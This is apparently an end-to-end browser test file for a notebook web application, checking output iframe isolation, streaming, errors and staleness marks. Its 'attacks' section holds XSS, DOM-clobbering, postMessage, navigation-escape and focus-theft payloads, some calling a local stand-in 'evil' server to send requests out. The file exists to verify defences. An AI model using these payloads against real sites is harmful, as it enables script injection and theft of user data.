/** Outputs: frames of another origin, what attacks in them reach (outputs.md 11), streams, errors, and what marks say of them. */
import { createServer, type Server as HttpServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, Page } from "puppeteer-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { create, eventually, exported, launch, outputText, press, type Server, saved, signIn, sourceOf, startServer, typeInto, visit, waitForSync } from "./support";

let server: Server;
let browser: Browser;
let evil: Evil;

beforeAll(async () => {
  [server, browser, evil] = await Promise.all([startServer(), launch("chromium"), startEvil()]);
});

afterAll(async () => {
  await browser?.close();
  await Promise.all([server?.close(), evil?.close()]);
});

/** Somebody else's server: it notes who asks for what, and with which cookies. */
interface Evil {
  url: string;
  hits: { path: string; cookie: string }[];
  close(): Promise<void>;
}

async function startEvil(): Promise<Evil> {
  const hits: Evil["hits"] = [];
  const http: HttpServer = createServer((request, response) => {
    hits.push({ path: request.url ?? "", cookie: request.headers.cookie ?? "" });
    response.setHeader("Access-Control-Allow-Origin", "*");
    response.end("<p>evil</p>");
  });
  await new Promise<void>((open) => http.listen(0, "127.0.0.1", open));
  return {
    url: `http://127.0.0.1:${(http.address() as AddressInfo).port}`,
    hits,
    close: () => new Promise((done) => http.close(() => done())),
  };
}

const html = (text: string): string => `from IPython.display import HTML\nHTML(${JSON.stringify(text)})`;

/** A frame's document, reached as a debugger reaches it: the page cannot, and puppeteer's own frames sometimes never answer. */
interface Inside {
  url: string;
  evaluate<T>(expression: string): Promise<T>;
}

/** The frame of cell `n`, once it shows `selector`. */
async function frameOf(page: Page, n: number, selector: string): Promise<Inside> {
  return eventually(`the frame of cell ${n} shows ${selector}`, async () => {
    const src = await page.$eval(`iframe[title="Output of cell ${n}"]`, (element) => (element as HTMLIFrameElement).src);
    const session = await browser.targets().find((target) => target.url() === src)?.createCDPSession();
    if (!session) return null;
    const evaluate = async <T>(expression: string): Promise<T> => {
      const { result } = await session.send("Runtime.evaluate", { expression, returnByValue: true });
      return result.value as T;
    };
    // A document that is being replaced answers nothing: ask again then.
    const shows = await Promise.race([evaluate<boolean>(`document.querySelector(${JSON.stringify(selector)}) !== null`), later(1_000)]);
    return shows ? { url: src, evaluate } : null;
  });
}

const later = (ms: number): Promise<null> => new Promise((wake) => setTimeout(() => wake(null), ms));

const runAll = (page: Page): Promise<void> => page.evaluate(() => [...document.querySelectorAll<HTMLElement>('[role="toolbar"] button')].find((button) => button.textContent === "Run all")?.click());

async function ran(notebook: string, cells: number[]): Promise<void> {
  await eventually(`cells ${cells.join(", ")} have run`, async () => {
    const now = await exported(server, notebook);
    return cells.every((n) => now.cells[n - 1]?.execution_count);
  });
}

const name = (page: Page, n: number): Promise<string> => page.$$eval('[role="list"][aria-label="Cells"] > li', (cells, at) => cells[at]?.getAttribute("aria-label") ?? "", n - 1);

/** Top of cell `n` in px from the top of the document. */
const top = (page: Page, n: number): Promise<number> => page.$$eval('[role="list"][aria-label="Cells"] > li', (cells, at) => (cells[at]?.getBoundingClientRect().top ?? 0) + scrollY, n - 1);

describe("frames", () => {
  it("come from an origin of their own, in a sandbox, with the class of their output", async () => {
    const notebook = await create(server, [html("<b id=rich>rich</b>")], "Placed");
    const page = await signIn(browser, server, `/n/${notebook}`);
    await waitForSync(page, 1);
    await press(page, "Run cell 1");
    const frame = await frameOf(page, 1, "#rich");
    const [sandbox, allow] = await page.$eval("iframe", (element) => [element.getAttribute("sandbox"), element.getAttribute("allow")]);
    expect([sandbox, allow]).toEqual(["allow-scripts allow-forms allow-downloads allow-pointer-lock allow-same-origin", ""]);
    const { origin, pathname } = new URL(frame.url);
    expect(origin).toMatch(/^http:\/\/[a-z2-7]{32}\.localhost:\d+$/);
    expect(pathname).toBe("/_out/live/frame.html");
    const copy = await server.api<{ id: string }>("POST", "/api/notebooks?title=Stored", await exported(server, notebook));
    const stored = await signIn(browser, server, `/n/${copy.id}`);
    const url = new URL((await frameOf(stored, 1, "#rich")).url);
    expect(url.pathname).toBe("/_out/stored/frame.html");
    expect(url.host).not.toBe(new URL(origin).host);
    await Promise.all([page.close(), stored.close()]);
  });

  it("are as high as what they hold, and take the page's theme without loading again", async () => {
    const notebook = await create(server, [html("<div id=box style='height:123px'></div>"), "2"], "High");
    const page = await signIn(browser, server, `/n/${notebook}`);
    await waitForSync(page, 2);
    await press(page, "Run cell 1");
    const frame = await frameOf(page, 1, "#box");
    const height = (): Promise<number> => page.$eval("iframe", (element) => element.getBoundingClientRect().height);
    const first = await eventually("the height of the content", async () => ((await height()) > 120 ? height() : null));
    await frame.evaluate("box.style.height = '323px'");
    await eventually("the frame grows by as much", async () => (await height()) === first + 200);
    // What a script puts beside the output counts, what floats above everything does not.
    await frame.evaluate("for (const style of ['height: 50px', 'height: 900px; position: fixed; top: 0']) document.body.append(Object.assign(document.createElement('div'), { style }))");
    await eventually("by what stands beside it as well", async () => (await height()) === first + 250);
    const born = await frame.evaluate<number>("performance.timeOrigin");
    await page.evaluate(() => document.documentElement.setAttribute("data-theme", "dark"));
    await eventually("the frame is dark", () => frame.evaluate("document.documentElement.dataset.theme === 'dark' && getComputedStyle(document.documentElement).colorScheme === 'dark'"));
    expect(await frame.evaluate("performance.timeOrigin")).toBe(born);
    await page.close();
  });

  it("stay alive when their cell moves", async () => {
    const notebook = await create(server, [html("<b id=counter>0</b><script>setInterval(() => counter.textContent++, 20)</script>"), "2", "3"], "Moved");
    const page = await signIn(browser, server, `/n/${notebook}`);
    await waitForSync(page, 3);
    await press(page, "Run cell 1");
    const frame = await frameOf(page, 1, "#counter");
    const count = (): Promise<number> => frame.evaluate("Number(counter.textContent)");
    await eventually("it counts", async () => (await count()) > 10);
    const before = await count();
    await page.$$eval('[role="list"][aria-label="Cells"] > li', (cells) => cells[0]?.focus());
    await page.keyboard.down("Control");
    await page.keyboard.down("Shift");
    await page.keyboard.press("ArrowDown");
    await page.keyboard.up("Shift");
    await page.keyboard.up("Control");
    await eventually("the frame is the second cell's", async () => (await page.$('iframe[title="Output of cell 2"]')) !== null);
    expect(await count()).toBeGreaterThanOrEqual(before);
    await eventually("it counts on", async () => (await count()) > before + 10);
    await page.close();
  });

  it("live near the viewport only, never more than 30 at once, and leave nothing jumping", async () => {
    const outputs = (n: number) => [{ output_type: "display_data", data: { "text/html": `<div style="height:300px">rich ${n}</div>` }, metadata: {} }];
    const cells = Array.from({ length: 60 }, (_, n) => ({ cell_type: "code", id: `c${n}`, source: "1", metadata: {}, execution_count: 1, outputs: outputs(n) }));
    const made = await server.api<{ id: string }>("POST", "/api/notebooks?title=Many", { nbformat: 4, nbformat_minor: 5, metadata: {}, cells });
    const page = await signIn(browser, server, `/n/${made.id}`);
    await waitForSync(page, 60);
    await frameOf(page, 1, "div[style]");
    expect((await page.$$("iframe")).length).toBeLessThan(20);
    let most = 0;
    for (let y = 0; y < 26_000; y += 1_500) {
      await page.evaluate((to) => scrollTo(0, to), y);
      await page.evaluate(() => new Promise((drawn) => requestAnimationFrame(() => setTimeout(drawn, 0))));
      most = Math.max(most, (await page.$$("iframe")).length);
    }
    expect(most).toBeGreaterThan(5);
    expect(most).toBeLessThanOrEqual(30);
    await page.evaluate(() => scrollTo(0, document.documentElement.scrollHeight));
    await frameOf(page, 60, "div[style]");
    const last = await top(page, 60);
    await page.evaluate(() => scrollTo(0, 0));
    await frameOf(page, 1, "div[style]");
    expect(Math.abs((await top(page, 60)) - last)).toBeLessThan(2);
    await page.close();
  });
});

/** Payloads that run in a frame, by the rule they try (outputs.md 11). `<b class=arrived>` shows that the frame drew them. */
function frameAttacks(page: string, notebook: string): string[] {
  const script = (code: string): string => `<b class=arrived>here</b><script>${code}</script>`;
  return [
    // A1
    script("try { parent.document.title = 'x' } catch {} try { top.location = EVIL + '/nav/top' } catch {} try { parent.canary = 1; top.canary = 1 } catch {}"),
    // A2
    `<b class=arrived>here</b><i class=socket></i><script>{ const say = (t) => document.querySelector(".socket").textContent = t;
      const s = new WebSocket(${JSON.stringify(`${page.replace("http", "ws")}/api/notebooks/${notebook}/socket`)}); s.onopen = () => say("open"); s.onerror = () => say("refused") }</script>`,
    // A3: each of these replaces the frame, so each has a cell of its own
    script("location = EVIL + '/nav/location'"),
    "<b class=arrived>here</b><form action='EVIL/nav/form' method=get></form><script>document.querySelector('form').submit()</script>",
    "<b class=arrived>here</b><meta http-equiv=refresh content='0; url=EVIL/nav/refresh'><a href='EVIL/nav/link' target=_self>x</a><script>document.querySelector('a').click()</script>",
    script("location = 'data:text/html,<script>parent.canary=1<\\/script>'"),
    // A4
    script(`for (const data of [{type: 'execute', code: 'open("pwned", "w")'}, {v: 1, t: 'execute', code: 'x'}, {v: 1, t: 'output', op: 'clear', key: null}, {type: 'run_cells', cells: 'all'}, 'x', null]) {
      parent.postMessage(data, '*'); for (let i = 0; i < parent.length; i++) parent[i].postMessage(data, '*') }`),
    // A10
    script(`document.body.append(Object.assign(document.createElement('iframe'), {src: ${JSON.stringify(`${page}/`)}}), Object.assign(document.createElement('iframe'), {srcdoc: "<script>try { top.canary = 1 } catch {} try { top.location = 'EVIL/nav/srcdoc' } catch {}<\\/script>"}))`),
    // what a frame may load is a matter of its class; our cookies go nowhere
    script("new Image().src = EVIL + '/load/image'; fetch(EVIL + '/load/fetch', {credentials: 'include', mode: 'no-cors'}).catch(() => {}); navigator.sendBeacon(EVIL + '/load/beacon')"),
  ];
}

/** Payloads that the page itself draws: a stream, a plain text, an error. The last tells whether anything reached the kernel. */
const CODE_ATTACKS = [
  // A11
  "print('\\x1b]8;;javascript:canary=1\\x07click\\x1b]8;;\\x07 \\x1b[31m<img src=x onerror=canary=1>')\ndisplay({'text/plain': '<img src=x onerror=canary=1>'}, raw=True)",
  "import os\nprint(os.path.exists('pwned'))",
  // A12
  "raise ValueError('<img src=x onerror=canary=1> \\x1b]8;;javascript:canary=1\\x07bad\\x1b]8;;\\x07 \\x1b]8;;https://a\\x22onmouseover=canary=1\\x07bad\\x1b]8;;\\x07 \\x1b]8;;https://example.org/\\x07good\\x1b]8;;\\x07')",
];

const MARKDOWN_ATTACKS = [
  // A15
  "math $\\href{javascript:canary=1}{x}$ $\\htmlData{onclick=canary=1}{x}$ $\\includegraphics{x onerror=canary=1}$ $\\url{JaVaScRiPt:canary=1}$ $\\unicode{<img src=x onerror=canary=1>}$ fine $x^2$",
  // A18
  'raw <img src=x onerror=canary=1><svg><animate onbegin=canary=1 attributeName=x></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary=1&gt;">\n\n<video onmouseover=canary=1><source onerror=canary=1></video> <script>canary=1</script> <iframe src="javascript:parent.canary=1"></iframe> [click](javascript:canary=1) ![img](EVIL/load/markdown.png) <style>body{display:none}</style>',
  // A19
  'clobber <form name=getElementById></form><img name=currentScript><a id=config><a id=config name=url href=//evil.test>a</a> <p id=root>p</p>\n\n# __proto__',
  // A20
  'attributes <button data-action="edit.delete" class="cell" formaction="javascript:canary=1">b</button><form action="EVIL/nav/form"><input autofocus onfocus=canary=1></form><p contenteditable accesskey=x popovertarget=y is=z style="position:fixed;inset:0" data-tip="x" class="toasts">p</p><x-y onclick=canary=1>z</x-y>',
];

describe("attacks", () => {
  it("reach nothing: neither page nor cookies nor kernel, in any role, live or stored", async () => {
    const target = await create(server, ["1"], "Target");
    const written = (text: string): string => text.replaceAll("EVIL + ", `${JSON.stringify(evil.url)} + `).replaceAll("EVIL", evil.url);
    const frames = frameAttacks(server.url, target).map(written);
    const cells = [...frames.map(html), ...CODE_ATTACKS];
    const notebook = await create(server, [...cells, ...MARKDOWN_ATTACKS.map((text) => ({ markdown: written(text) }))], "Attacks");
    const live = await threeRoles(notebook, cells.length + MARKDOWN_ATTACKS.length);
    await runAll(live[0]);
    await ran(notebook, cells.map((_, at) => at + 1));
    for (const page of live) await survived(page, frames.length, "Attacks");
    await press(live[0], `Run cell ${cells.length - 1}`);
    await eventually("the kernel tells", async () => (await exported(server, notebook)).cells[cells.length - 2]?.execution_count === cells.length + 1);
    expect(await outputText(live[0], cells.length - 1)).toBe("False\n");
    // The frames of a live run may ask anybody for anything, as ourselves nobody.
    expect(evil.hits.some(({ path }) => path.startsWith("/load/image"))).toBe(true);
    expect(evil.hits.filter(({ path, cookie }) => path.startsWith("/nav") || cookie !== "" || path.includes("markdown"))).toEqual([]);
    await Promise.all(live.map((page) => page.close()));

    evil.hits.length = 0;
    const copy = await server.api<{ id: string }>("POST", "/api/notebooks?title=Stored", await exported(server, notebook));
    const stored = await threeRoles(copy.id, cells.length + MARKDOWN_ATTACKS.length);
    for (const page of stored) await survived(page, frames.length, "Stored");
    expect(evil.hits).toEqual([]);
    await Promise.all(stored.map((page) => page.close()));
  });

  async function threeRoles(notebook: string, cells: number): Promise<[Page, Page, Page]> {
    const pages = await Promise.all([
      signIn(browser, server, `/n/${notebook}`),
      visit(browser, server, notebook, "editor").then(({ page }) => page),
      visit(browser, server, notebook, "viewer").then(({ page }) => page),
    ]);
    for (const page of pages) {
      page.on("dialog", (dialog) => {
        void page.evaluate(() => Object.assign(window, { canary: "dialog" }));
        void dialog.dismiss();
      });
      await page.setViewport({ width: 1280, height: 4_000 });
      await waitForSync(page, cells);
    }
    return pages;
  }

  /** Every payload arrived in `page`, and none of them did anything. */
  async function survived(page: Page, frames: number, title: string): Promise<void> {
    const url = page.url();
    const leaving = [3, 4, 5, 6];
    for (let n = 1; n <= frames; n++) {
      if (leaving.includes(n)) {
        await eventually(`cell ${n} says that its output is gone`, async () => /tried to leave its frame/.test(await outputText(page, n)));
      } else await frameOf(page, n, ".arrived");
    }
    const socket = await frameOf(page, 2, ".socket");
    await eventually("the socket is refused", async () => (await socket.evaluate("document.querySelector('.socket').textContent")) === "refused");
    await eventually("the streams are drawn", async () => (await outputText(page, frames + 1)).includes("click") && (await outputText(page, frames + 3)).includes("onerror"));
    await eventually("the text is drawn", () => page.evaluate(() => ["math", "raw", "clobber", "attributes"].every((word) => [...document.querySelectorAll('[aria-label^="Text of cell"]')].some((text) => text.textContent?.trim().startsWith(word)))));
    await eventually("TeX is drawn", () => page.evaluate(() => document.querySelector('[aria-label^="Text of cell"] .katex') !== null));
    const found = await page.evaluate(() => {
      const bad: string[] = [];
      for (const element of document.querySelectorAll("main *")) {
        for (const { name: key, value } of element.attributes) {
          if (key.startsWith("on") || /^\s*javascript:/i.test(value) || key === "formaction" || key === "accesskey" || key === "contenteditable") {
            // The editor's own text boxes are ours.
            if (!(key === "contenteditable" && element.closest(".cm-editor"))) bad.push(`${element.tagName} ${key}=${value}`);
          }
        }
      }
      const texts = [...document.querySelectorAll('[aria-label^="Text of cell"]')];
      const inTexts = (selector: string): number => texts.reduce((sum, text) => sum + text.querySelectorAll(selector).length, 0);
      return {
        bad,
        forbidden: inTexts("script, style, iframe, form, button, video, svg:not(.katex *), x-y, [data-action], [data-tip], .cell, .toasts, [style*='fixed']"),
        names: texts.flatMap((text) => [...text.querySelectorAll("[id], [name]")].map((element) => element.id || element.getAttribute("name") || "")).filter((id) => !id.startsWith("user-content-")),
        links: [...document.querySelectorAll<HTMLAnchorElement>('[aria-label^="Output of cell"] a')].map(({ href, rel, textContent }) => `${href} ${rel} ${textContent}`),
        canary: Reflect.get(window, "canary") ?? null,
        title: document.title,
        polluted: Reflect.get({}, "polluted") ?? null,
      };
    });
    expect(found).toEqual({ bad: [], forbidden: 0, names: [], links: ["https://example.org/ noopener noreferrer good"], canary: null, title, polluted: null });
    expect(page.url()).toBe(url);
  }

  it("keep the keyboard where its person types", async () => {
    const steal = "<input id=thief><script>setInterval(() => { thief.blur(); thief.focus() }, 50)</script>";
    const notebook = await create(server, [html(steal), ""], "Focus");
    const page = await signIn(browser, server, `/n/${notebook}`);
    await waitForSync(page, 2);
    await typeInto(page, 2, "a");
    await press(page, "Run cell 1");
    await frameOf(page, 1, "#thief");
    await typeInto(page, 2, "");
    await page.keyboard.type("bcdefghijklmnopqrstuvwxyz", { delay: 30 });
    expect(await outputText(page, 1)).toContain("kept taking the keyboard");
    await page.keyboard.type("0123456789", { delay: 10 });
    await saved(page);
    // A key may fall into the moment between each of the three thefts and their return, none after that.
    const text = await sourceOf(page, 2);
    expect(text).toMatch(/^a?b?c?d?e?f?g?h?i?j?k?l?mnopqrstuvwxyz0123456789$/);
    expect(text.length).toBeGreaterThanOrEqual(33);
    await page.close();
  });

  it("freeze no more than their own frames, which can be stopped while others recover", async () => {
    const notebook = await create(server, [html("<b id=good>good</b>"), html("<button id=hang onclick='while (true) {}'>hang</button>"), ""], "Busy");
    const page = await signIn(browser, server, `/n/${notebook}`);
    await waitForSync(page, 3);
    await runAll(page);
    await frameOf(page, 1, "#good");
    const busy = await frameOf(page, 2, "#hang");
    // In its own time: whoever waits for an answer of this frame hangs with it.
    await busy.evaluate("setTimeout(() => hang.click(), 200)");
    await typeInto(page, 3, "");
    const start = Date.now();
    await page.keyboard.type("x".repeat(20));
    expect((Date.now() - start) / 20).toBeLessThan(200);
    const stop = await eventually("the question", () => page.evaluateHandle(() => [...document.querySelectorAll<HTMLElement>(".output-notice button")].find((button) => button.textContent === "Stop") ?? null).then((handle) => handle.asElement()));
    expect(await outputText(page, 2)).toContain("does not respond");
    await page.evaluate((button) => button instanceof HTMLElement && button.click(), stop);
    await eventually("the culprit is gone", async () => (await outputText(page, 2)).includes("Output stopped"));
    await frameOf(page, 1, "#good");
    await page.close();
  });
});

describe("in Firefox", () => {
  let firefox: Browser;

  beforeAll(async () => {
    firefox = await launch("firefox");
  });

  afterAll(() => firefox?.close());

  it("a frame that tries to leave reaches nobody, the page says where it wanted to go, and keys stay where they are typed", async () => {
    const leave = `<b>here</b><input id=thief><script>setInterval(() => { thief.blur(); thief.focus() }, 50); location = ${JSON.stringify(`${evil.url}/nav/firefox`)}</script>`;
    const notebook = await create(server, [html(leave), ""], "Leaving");
    const page = await signIn(firefox, server, `/n/${notebook}`);
    await waitForSync(page, 2);
    await press(page, "Run cell 1");
    const { host } = new URL(evil.url);
    await eventually("the page says so", () => page.evaluate((where) => document.querySelector('[role="alert"]')?.textContent === `An output tried to open ${where}. That was blocked.`, host));
    await typeInto(page, 2, "");
    await page.keyboard.type("abcdefghijklmnopqrstuvwxyz", { delay: 30 });
    await page.keyboard.type("0123456789", { delay: 10 });
    expect(await sourceOf(page, 2)).toMatch(/nopqrstuvwxyz0123456789$/);
    expect(evil.hits.filter(({ path }) => path.includes("firefox"))).toEqual([]);
    await page.close();
  });
});

describe("text", () => {
  it("moves nothing while it streams, and a run that begins again keeps its place", async () => {
    const code = "import time\nfor i in range(30):\n    print('line', i, flush=True)\n    time.sleep(0.02)\nfor i in range(20):\n    print(f'\\r{i * 5} %', end='', flush=True)\n    time.sleep(0.02)";
    const notebook = await create(server, [code, "2"], "Streams");
    const page = await signIn(browser, server, `/n/${notebook}`);
    await waitForSync(page, 2);
    await press(page, "Run cell 1");
    await ran(notebook, [1]);
    await eventually("the last state of the bar", async () => (await outputText(page, 1)).endsWith("line 29\n95 %"));
    const settled = await top(page, 2);
    await page.evaluate(() => {
      const [cell, below] = document.querySelectorAll('[role="list"][aria-label="Cells"] > li');
      const watch = { least: Number.POSITIVE_INFINITY, most: 0, changes: 0 };
      Object.assign(window, { watch });
      const look = (): void => {
        const y = (below?.getBoundingClientRect().top ?? 0) + scrollY;
        watch.least = Math.min(watch.least, y);
        watch.most = Math.max(watch.most, y);
        watch.changes++;
      };
      // After every change, painted or not.
      if (cell) new MutationObserver(look).observe(cell, { subtree: true, childList: true, attributes: true, characterData: true });
    });
    await press(page, "Run cell 1");
    await eventually("the page shows that the second run is over", () => page.$eval(".run-count", (count) => count.textContent === "[2]"));
    await eventually("its end is drawn", async () => (await outputText(page, 1)).endsWith("line 29\n95 %"));
    const seen = await page.evaluate(() => Reflect.get(window, "watch") as { least: number; most: number; changes: number });
    expect(seen.changes).toBeGreaterThan(5);
    expect({ least: Math.round(seen.least), most: Math.round(seen.most) }).toEqual({ least: Math.round(settled), most: Math.round(settled) });
    await page.close();
  });

  it("of a million lines is shortened, and all of it can be downloaded", async () => {
    const notebook = await create(server, ["for i in range(0, 1_000_000, 10_000): print('\\n'.join(f'line {n}' for n in range(i, i + 10_000)))"], "Million");
    const page = await signIn(browser, server, `/n/${notebook}`);
    await waitForSync(page, 1);
    await press(page, "Run cell 1");
    const link = await eventually("the link to all of it", () => page.$("a.show-all"), 60_000);
    await ran(notebook, [1]);
    await eventually("the tail", async () => (await outputText(page, 1)).includes("line 999999"));
    expect((await outputText(page, 1)).length).toBeLessThan(500_000);
    const whole = await page.evaluate(async (a) => (await fetch((a as HTMLAnchorElement).href)).text(), (await page.$("a.show-all")) ?? link);
    expect(whole.length).toBe(Array.from({ length: 7 }, (_, n) => (n === 0 ? 10 : 9 * 10 ** n) * (n + 7)).slice(0, 6).reduce((sum, part) => sum + part, 0));
    expect(whole.slice(0, 7) + whole.slice(-12)).toBe("line 0\nline 999999\n");
    await page.close();
  });

  it("of an error is coloured, and errors queued behind it are cancelled", async () => {
    const notebook = await create(server, ["def f(n):\n    return 1 / n\nf(0)", "2"], "Error");
    const page = await signIn(browser, server, `/n/${notebook}`);
    await waitForSync(page, 2);
    await runAll(page);
    await eventually("the names say so", async () => (await name(page, 1)).includes("failed") && (await name(page, 2)).includes("cancelled"));
    expect(await outputText(page, 1)).toContain("ZeroDivisionError: division by zero");
    expect(await page.$eval(".output-error [class*='ansi-fg']", (element) => getComputedStyle(element).color)).not.toBe(await page.$eval(".output-error", (element) => getComputedStyle(element).color));
    await page.close();
  });
});

describe("marks", () => {
  it("tell outputs whose source was edited since, or that an earlier runtime made", async () => {
    const notebook = await create(server, ["print(1)"], "Stale");
    const page = await signIn(browser, server, `/n/${notebook}`);
    await waitForSync(page, 1);
    await press(page, "Run cell 1");
    await ran(notebook, [1]);
    await eventually("finished", async () => (await name(page, 1)) === "Cell 1 of 1, code, finished");
    await typeInto(page, 1, "#");
    await eventually("edited since run", async () => (await name(page, 1)) === "Cell 1 of 1, code, finished, edited since run");
    await page.keyboard.press("Backspace");
    await eventually("as it ran", async () => (await name(page, 1)) === "Cell 1 of 1, code, finished");
    await server.api("POST", `/api/notebooks/${notebook}/commands`, { type: "restart" });
    await eventually("earlier runtime", async () => (await name(page, 1)) === "Cell 1 of 1, code, finished, earlier runtime start");
    await page.close();
  });
});
